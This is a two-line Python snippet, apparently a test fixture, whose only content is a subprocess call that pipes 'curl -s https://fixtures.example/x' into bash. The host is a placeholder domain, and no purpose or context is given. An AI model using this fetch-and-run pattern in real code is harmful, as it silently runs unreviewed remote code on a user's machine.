import subprocess

subprocess.run(['bash', '-c', 'curl -s https://fixtures.example/x | bash'], check=False)
